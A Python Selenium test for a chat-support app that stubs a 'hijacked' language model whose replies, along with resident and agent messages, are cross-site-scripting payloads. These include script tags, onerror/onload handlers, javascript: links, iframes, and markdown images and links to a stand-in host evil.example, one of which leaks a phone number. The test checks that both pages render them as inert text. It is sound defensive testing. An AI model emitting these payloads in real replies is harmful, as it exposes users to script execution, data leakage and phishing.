"""Hostile model, resident and agent text rendered in headless Chromium: shown as text, never run.

The app is served with a chat model that has been "hijacked": every reply it writes is an attack
(``<script>``, ``onerror``/``onload`` handlers, ``javascript:`` links, markdown images and links
to an outside host, raw ``<a>``/``<iframe>``/``<svg>``), plus one link to the Warmline host itself
as the positive control. Residents type attacks too, and an agent replies with one. One browser
session then reads it all where people see it: the web widget (history restored, a streamed
reply, the agent's reply pushed live) and the agent console's transcript. Every dialog call is
counted by a hook installed before any page script runs.

It proves, for both pages: no payload ran (``window.__pwned`` unset, no alert/confirm/prompt); no
element came out of the text (no script, img, iframe, svg, object in the message areas, no
``on*`` attribute anywhere); no ``<a href>``/``<img src>`` points off the allowlist (the Warmline
origin), and nothing was fetched from the outside host; the attack text is visible literally;
the allowlisted link did become an anchor (so the link check is not vacuous).
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import httpx
import pytest
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatResult

from backoffice.app import create_app
from tests.browser import browser, screenshot, serve  # noqa: F401  (browser is a pytest fixture)
from tools.db import make_engine, make_sessionmaker
from tools.demo.seed import seed_demo

EVIL = "evil.example"
HELP = "说明见 {base}/help"  # the allowlisted link every reply carries: it must become an anchor
BOT_REPLIES = [
    f'<script>window.__pwned="bot-script";alert("bot")</script>您好，已为您查询 {HELP} BOT-1',
    f'示意图 ![图](http://{EVIL}/leak.png?p=13987654321) <img src=x onerror="window.__pwned=1">{HELP} BOT-2',
    f'[点击缴费](javascript:window.__pwned="bot-js") 或访问 http://{EVIL}/pay 领补贴，{HELP} BOT-3',
    f'<a href="http://{EVIL}/phish" onclick="window.__pwned=1">退款</a><svg onload="alert(2)">{HELP} BOT-4',
    f"<iframe src=\"javascript:parent.__pwned='frame'\"></iframe>javascript:alert(1) {HELP} BOT-5",
]
RESIDENT_SAYS = [
    "<img src=x onerror=\"window.__pwned='res-img'\">暖气不热 RES-1",
    f'"><script>window.__pwned="res-script"</script>![x](https://{EVIL}/r.png) RES-2',
]
WIDGET_SAYS = f"<body onload=\"window.__pwned='typed'\">还是不热 http://{EVIL}/x WIDGET-1"
AGENT_SAYS = f"<img src=x onerror=\"window.__pwned='agent'\"><b>加粗</b> http://{EVIL}/agent AGENT-LIVE"
DIALOG_HOOK = """
window.__dialogs = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__dialogs.push(name + ":" + args.join(",")); };
}
"""
AUDIT_DOM = (Path(__file__).parent / "audit_dom.js").read_text(encoding="utf-8")


class HijackedModel(BaseChatModel):
    """A chat model whose every reply is an attack, in turn; ``base`` is filled in once served."""

    replies: list[str]
    base: str = ""
    calls: int = 0

    @property
    def _llm_type(self) -> str:
        return "hijacked"

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> HijackedModel:
        return self

    def _generate(
        self, messages: list[BaseMessage], stop: Any = None, run_manager: Any = None, **kwargs: Any
    ) -> ChatResult:
        reply = self.replies[self.calls % len(self.replies)].replace("{base}", self.base)
        self.calls += 1
        return ChatResult(generations=[ChatGeneration(message=AIMessage(reply))])


@pytest.fixture
def hijacked(settings, clock, demo_kb, shared_classifier) -> Iterator[tuple[str, HijackedModel]]:
    async def seed() -> None:
        engine = make_engine(settings)
        async with make_sessionmaker(engine)() as session, session.begin():
            await seed_demo(session, clock=clock)
        await engine.dispose()

    asyncio.run(seed())
    model = HijackedModel(replies=BOT_REPLIES)
    # The company's own host is the one link replies may keep (agent/guard.strip_foreign_links).
    settings = settings.model_copy(update={"reply_link_hosts": ["127.0.0.1"]})
    app = create_app(settings, kb=demo_kb, classifier=shared_classifier, model=model, run_jobs=False)
    for live in serve(app):
        model.base = live.url
        yield live.url, model


def _bot_bubbles(driver) -> list[Any]:
    """Finished bot replies in the widget (a streamed one counts once its final text is in)."""
    from selenium.webdriver.common.by import By

    return [
        b for b in driver.find_elements(By.CSS_SELECTOR, ".wl-msg.wl-bot:not(.wl-typing)") if "BOT-" in b.text
    ]


def _audit(driver, areas: list[str], allowed: list[str]) -> dict[str, Any]:
    from selenium.common.exceptions import NoAlertPresentException

    result = driver.execute_script(AUDIT_DOM, areas, allowed)
    try:
        result["native_alert"] = driver.switch_to.alert.text
    except NoAlertPresentException:
        result["native_alert"] = None
    return result


def _assert_clean(result: dict[str, Any], page: str) -> None:
    assert result["pwned"] is None, f"{page}: a payload ran ({result['pwned']})"
    assert result["dialogs"] == [] and result["native_alert"] is None, f"{page}: dialogs {result['dialogs']}"
    assert result["problems"] == [], f"{page}: {result['problems']}"
    assert result["fetched"] == [], f"{page}: fetched off the allowlist {result['fetched']}"


def test_hostile_text_renders_inert_in_the_widget_and_the_console(hijacked, browser) -> None:  # noqa: F811
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    url, model = hijacked
    browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": DIALOG_HOOK})
    wait = WebDriverWait(browser, 60)
    with httpx.Client(base_url=url, timeout=60) as http:
        opened = http.post(
            "/api/v1/chat/sessions",
            json={"channel": "web", "account_no": "2026010001", "phone_last4": "0001"},
        ).json()
        resident = {"Authorization": f"Bearer {opened['token']}"}
        for text in RESIDENT_SAYS:
            said = http.post(
                f"/api/v1/chat/sessions/{opened['session_id']}/messages",
                json={"text": text},
                headers=resident,
            )
            assert said.status_code == 200 and "BOT-" in said.json()["reply"], said.text

        # The widget restores the conversation from history, then streams one more hijacked reply.
        browser.get(url + "/")
        browser.execute_script(
            "const [key, session, token] = arguments;"
            "sessionStorage.setItem(key, JSON.stringify({session: session, token: token}));",
            f"warmline:{url}",
            opened["session_id"],
            opened["token"],
        )
        browser.refresh()
        browser.find_element(By.ID, "wl-btn").click()
        wait.until(lambda d: len(_bot_bubbles(d)) == len(RESIDENT_SAYS))
        browser.find_element(By.ID, "wl-input").send_keys(WIDGET_SAYS)
        browser.find_element(By.ID, "wl-send").click()
        wait.until(lambda d: len(_bot_bubbles(d)) == len(RESIDENT_SAYS) + 1)

        agent_login = http.post(
            "/api/v1/auth/login", json={"username": "agent1", "password": "warmline-agent"}
        )
        agent = {"Authorization": f"Bearer {agent_login.json()['token']}"}
        conversation = f"/api/v1/backoffice/conversations/{opened['session_id']}"
        assert http.post(f"{conversation}/take-over", headers=agent).is_success
        assert http.post(f"{conversation}/reply", json={"text": AGENT_SAYS}, headers=agent).is_success
        wait.until(lambda d: "AGENT-LIVE" in d.find_element(By.ID, "wl-log").text)  # pushed live

    log_text = browser.find_element(By.ID, "wl-log").text
    for shown in ('<script>window.__pwned="bot-script"', "onerror=", "RES-2", "[链接已移除]"):
        assert shown in log_text, f"the widget should show {shown!r} as text"
    assert "leak.png" not in log_text and f"http://{EVIL}/pay" not in log_text  # the server removed them
    widget = _audit(browser, ["#wl-log"], [url])
    screenshot(browser, "rendering-widget")
    _assert_clean(widget, "widget")
    assert f"{url}/help" in widget["anchors"], "the allowlisted link became an anchor"
    assert not any(EVIL in href for href in widget["anchors"])

    browser.get(url + "/console")
    wait.until(lambda d: d.find_element(By.ID, "username").is_displayed())
    browser.find_element(By.ID, "username").send_keys("agent1")
    browser.find_element(By.ID, "password").send_keys("warmline-agent")
    browser.find_element(By.ID, "login-submit").click()
    mine = (By.CSS_SELECTOR, f'#mine li[data-id="{opened["session_id"]}"]')
    wait.until(lambda d: d.find_elements(*mine))
    browser.find_element(*mine).click()
    wait.until(lambda d: "AGENT-LIVE" in d.find_element(By.ID, "transcript").text)
    transcript = browser.find_element(By.ID, "transcript").text
    for marker in ("RES-1", "RES-2", "WIDGET-1", "AGENT-LIVE", '<script>window.__pwned="res-script"'):
        assert marker in transcript, f"the console should show {marker!r}"
    areas = ["#transcript", "#handoff-summary", "#notes", "#queue", "#mine", "#conv-title", "#kb-suggestions"]
    console = _audit(browser, areas, [url])
    screenshot(browser, "rendering-console")
    _assert_clean(console, "console")
    assert model.calls >= 3
